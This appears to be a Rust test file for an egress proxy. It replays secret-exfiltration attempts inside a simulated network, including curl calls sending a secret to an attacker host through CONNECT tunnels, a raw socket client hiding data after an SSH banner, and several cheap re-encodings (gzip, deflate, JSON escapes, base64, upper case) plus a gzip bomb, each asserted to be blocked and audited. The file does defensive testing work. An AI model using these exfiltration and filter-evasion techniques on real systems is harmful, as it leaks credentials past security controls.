//! Exfiltration that once got past the egress proxy (issue 10, items 2 and 7), replayed in the
//! test's own fake internet: plain HTTP and other protocols inside `CONNECT` tunnels, and a
//! secret re-encoded in cheap ways (upper case, gzip and deflate bodies, JSON `\u` escapes,
//! base64 with line breaks). Each case asserts the status the step saw, the audit event with its
//! reason, and that the server (or the attacker) received nothing.

mod common;

use std::time::{Duration, Instant};

use common::inet::{Internet, audit_events, egress_users, find, needs_root};
use common::*;

/// A secret the step holds (declared, not brokered), and the attacker's wish to send it out.
const SECRET: &str = "lk_9fQz7Rt2Wm4Xp8Vn3Bs6Jd";

const PROFILE: &str = "\
name: exfil-test
description: plain HTTP allowed to two names, one of them the attacker's
extends: default
network:
  allow:
    - { host: allowed.test, ports: [80] }
    - { host: plain.test, ports: [80, 9999] }
secrets:
  LEAKY: {}
";

fn run(net: &Internet, dir: &Dir, profile: &str, script: &str) -> Out {
    let secrets = dir.write("home/secrets.json", &format!("{{\"LEAKY\": \"{SECRET}\"}}"));
    let extra = ["--secrets-file", secrets.to_str().unwrap(), "--no-mask"];
    net.run(dir, profile, &extra, script)
}

/// The attacker logs a connection only when it ends: wait (a bounded time) until it logged one
/// on `port`, so that "received 0 bytes" is not read before the bytes were counted.
fn attacker_lines(net: &Internet, port: u16) -> Vec<String> {
    let start = Instant::now();
    let prefix = format!("tcp {port} ");
    loop {
        let lines: Vec<String> = net
            .log("attacker.log")
            .lines()
            .filter(|l| l.starts_with(&prefix))
            .map(str::to_string)
            .collect();
        if !lines.is_empty() || start.elapsed() > Duration::from_secs(8) {
            return lines;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// The attacker received no byte on `port` (a connection that carried nothing may be logged).
fn assert_attacker_got_nothing(net: &Internet, port: u16, uid: u32) {
    for line in attacker_lines(net, port) {
        assert!(
            line.ends_with(" 0"),
            "as uid {uid}: the attacker got {line}"
        );
    }
}

fn reason_contains(ev: &[&serde_json::Value], text: &str) -> bool {
    ev.iter()
        .any(|e| e["reason"].as_str().is_some_and(|r| r.contains(text)))
}

/// `curl -p`: `CONNECT plain.test:80`, then `GET /?t=<secret>` inside the tunnel. The same
/// request as ordinary proxied HTTP is refused; inside a tunnel it must be too, and the tunnel
/// is served request by request: decided, Host checked against the CONNECT host, logged.
#[test]
fn plain_http_inside_a_connect_tunnel_is_checked_like_proxied_http() {
    if !needs_root() {
        return;
    }
    for uid in egress_users() {
        let net = Internet::new();
        let dir = Dir::new(uid);
        let out = run(
            &net,
            &dir,
            PROFILE,
            "curl -s -m 8 -p -o /dev/null -w 'leak %{http_code}\\n' \"http://plain.test/?t=$LEAKY\"; \
             curl -s -m 8 -p -o /dev/null -w 'fronted %{http_code}\\n' -H 'Host: other.test' http://allowed.test/fronted; \
             curl -s -m 8 -p -o /dev/null -w 'absolute %{http_code}\\n' --request-target http://other.test/abs http://allowed.test/; \
             curl -s -m 8 -p -w 'ok %{http_code}\\n' http://allowed.test/ok",
        );
        assert_eq!(
            out.stdout(),
            "leak 403\nfronted 403\nabsolute 403\nhello from allowed.test over http\nok 200\n",
            "as uid {uid}: {}",
            out.stderr()
        );
        assert_attacker_got_nothing(&net, 80, uid);
        let got = net.log("requests.log");
        assert_eq!(
            got, "http allowed.test GET /ok auth=- body=''\n",
            "as uid {uid}"
        );
        let ev = audit_events(&dir);
        let leak = find(
            &ev,
            "secret_leak",
            &[
                ("secret_name", "LEAKY"),
                ("dest_name", "plain.test"),
                ("via", "proxy"),
            ],
        );
        assert_eq!(leak.len(), 1, "as uid {uid}: {ev:#?}");
        let http_denied = find(&ev, "http", &[("decision", "deny"), ("status", "403")]);
        assert!(
            http_denied
                .iter()
                .any(|e| e["url"].as_str().unwrap().starts_with("http://plain.test/")),
            "as uid {uid}: {ev:#?}"
        );
        let fronted = find(
            &ev,
            "connect",
            &[("dest_name", "allowed.test"), ("decision", "deny")],
        );
        assert_eq!(fronted.len(), 2, "as uid {uid}: {ev:#?}");
        assert!(
            reason_contains(&fronted, "does not match the CONNECT host allowed.test:80"),
            "as uid {uid}: {ev:#?}"
        );
        assert_eq!(
            find(
                &ev,
                "http",
                &[
                    ("url", "http://allowed.test/ok"),
                    ("decision", "allow"),
                    ("status", "200")
                ]
            )
            .len(),
            1,
            "as uid {uid}: {ev:#?}"
        );
        let log = std::fs::read_to_string(dir.root.join("audit.jsonl")).unwrap();
        assert!(!log.contains(SECRET), "as uid {uid}");
    }
}

/// A client of the step's own making: CONNECT, then an SSH banner (neither TLS nor HTTP).
const RAW_CLIENT: &str = r#"python3 -c '
import os, socket
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT plain.test:9999 HTTP/1.1\r\nHost: plain.test:9999\r\n\r\n")
print(s.recv(200).split(b"\r\n")[0].decode())
s.sendall(b"SSH-2.0-OpenSSH_9.2\r\n" + os.environb[b"LEAKY"][::-1] + b"\r\n")
s.settimeout(6)
try:
    print("reply", len(s.recv(100)))
except OSError as e:
    print("error", type(e).__name__)
'"#;

#[test]
fn another_protocol_in_a_tunnel_to_a_name_rule_is_refused() {
    if !needs_root() {
        return;
    }
    for uid in egress_users() {
        let net = Internet::new();
        let dir = Dir::new(uid);
        let out = run(&net, &dir, PROFILE, RAW_CLIENT);
        assert_eq!(
            out.stdout(),
            "HTTP/1.1 200 Connection established\nreply 0\n",
            "as uid {uid}: {}",
            out.stderr()
        );
        assert_attacker_got_nothing(&net, 9999, uid);
        let ev = audit_events(&dir);
        let denied = find(
            &ev,
            "connect",
            &[
                ("dest_name", "plain.test"),
                ("dest_port", "9999"),
                ("decision", "deny"),
            ],
        );
        assert!(
            reason_contains(&denied, "neither TLS nor HTTP"),
            "as uid {uid}: {ev:#?}"
        );
        assert!(
            out.stderr().contains("raw_tcp: true"),
            "the refusal says how to allow it: {}",
            out.stderr()
        );
    }
}

#[test]
fn a_rule_with_raw_tcp_lets_another_protocol_through_its_tunnel() {
    if !needs_root() {
        return;
    }
    let profile = PROFILE.replace(
        "    - { host: plain.test, ports: [80, 9999] }\n",
        "    - { host: plain.test, ports: [9999], raw_tcp: true }\n",
    );
    for uid in egress_users() {
        let net = Internet::new();
        let dir = Dir::new(uid);
        let out = run(&net, &dir, &profile, RAW_CLIENT);
        assert!(
            out.stdout()
                .starts_with("HTTP/1.1 200 Connection established\n"),
            "as uid {uid}: {}{}",
            out.stdout(),
            out.stderr()
        );
        let lines = attacker_lines(&net, 9999);
        assert!(
            lines.iter().any(|l| !l.ends_with(" 0")),
            "as uid {uid}: {lines:?}"
        );
        let ev = audit_events(&dir);
        assert_eq!(
            find(
                &ev,
                "connect",
                &[
                    ("dest_name", "plain.test"),
                    ("decision", "allow"),
                    ("rule", "plain.test:9999 raw_tcp")
                ]
            )
            .len(),
            1,
            "as uid {uid}: {ev:#?}"
        );
    }
}

/// The cheap re-encodings: every body below carries the secret, and each is refused with 403
/// and a `secret_leak` event; the web server logs every request it gets, and gets none.
#[test]
fn re_encoded_secrets_in_plain_http_bodies_are_caught() {
    if !needs_root() {
        return;
    }
    let script = r#"
post() { name=$1; shift; curl -s -m 8 -o /dev/null -w "$name %{http_code}\n" "$@" "http://allowed.test/$name"; }
printf 't=%s' "$LEAKY" | tr a-z A-Z > upper.txt
python3 -c 'import gzip,os,sys; sys.stdout.buffer.write(gzip.compress(b"t=" + os.environb[b"LEAKY"]))' > body.gz
python3 -c 'import zlib,os,sys; sys.stdout.buffer.write(zlib.compress(b"t=" + os.environb[b"LEAKY"]))' > body.zlib
python3 -c 'import zlib,os,sys; c = zlib.compressobj(wbits=-15); sys.stdout.buffer.write(c.compress(b"t=" + os.environb[b"LEAKY"]) + c.flush())' > body.deflate
python3 -c 'import os,sys; sys.stdout.write("{\"t\": \"" + "".join("\\u%04x" % ord(c) for c in os.environ["LEAKY"]) + "\"}")' > body.json
python3 -c 'import base64,os,sys; sys.stdout.write(base64.encodebytes(b"x" * 50 + os.environb[b"LEAKY"]).decode().replace("\n", "\r\n"))' > body.mime
printf '%s' "$LEAKY" | base64 -w 8 > body.b64
python3 -c 'import gzip,sys; sys.stdout.buffer.write(gzip.compress(b"\0" * (20 << 20)))' > bomb.gz
post upper --data-binary @upper.txt
post gzip -H 'Content-Encoding: gzip' --data-binary @body.gz
post zlib -H 'Content-Encoding: deflate' --data-binary @body.zlib
post deflate -H 'Content-Encoding: deflate' --data-binary @body.deflate
post json -H 'Content-Type: application/json' --data-binary @body.json
post mime --data-binary @body.mime
post b64 --data-binary @body.b64
post bomb -H 'Content-Encoding: gzip' --data-binary @bomb.gz
post brotli -H 'Content-Encoding: br' --data-binary 'not really brotli'
python3 -c 'import gzip,os,sys; sys.stdout.buffer.write(gzip.compress(b"ok=" + os.environb[b"LEAKY"][::-1]))' > clean.gz
post clean -H 'Content-Encoding: gzip' --data-binary @clean.gz
"#;
    for uid in egress_users() {
        let net = Internet::new();
        let dir = Dir::new(uid);
        let out = run(&net, &dir, PROFILE, script);
        assert_eq!(
            out.stdout(),
            "upper 403\ngzip 403\nzlib 403\ndeflate 403\njson 403\nmime 403\nb64 403\n\
             bomb 413\nbrotli 415\nclean 200\n",
            "as uid {uid}: {}",
            out.stderr()
        );
        let got = net.log("requests.log");
        assert_eq!(got.lines().count(), 1, "as uid {uid}: {got}");
        assert!(got.contains("POST /clean"), "as uid {uid}: {got}");
        let ev = audit_events(&dir);
        let leaks = find(
            &ev,
            "secret_leak",
            &[
                ("secret_name", "LEAKY"),
                ("dest_name", "allowed.test"),
                ("via", "proxy"),
            ],
        );
        assert_eq!(leaks.len(), 7, "as uid {uid}: {ev:#?}");
        for (path, status) in [
            ("upper", "403"),
            ("gzip", "403"),
            ("zlib", "403"),
            ("deflate", "403"),
            ("json", "403"),
            ("mime", "403"),
            ("b64", "403"),
            ("bomb", "413"),
            ("brotli", "415"),
        ] {
            let url = format!("http://allowed.test/{path}");
            assert_eq!(
                find(
                    &ev,
                    "http",
                    &[("url", &url), ("decision", "deny"), ("status", status)]
                )
                .len(),
                1,
                "as uid {uid}: {path}: {ev:#?}"
            );
        }
        assert!(
            out.stderr().contains("larger than 16777216 bytes decoded"),
            "as uid {uid}: {}",
            out.stderr()
        );
    }
}
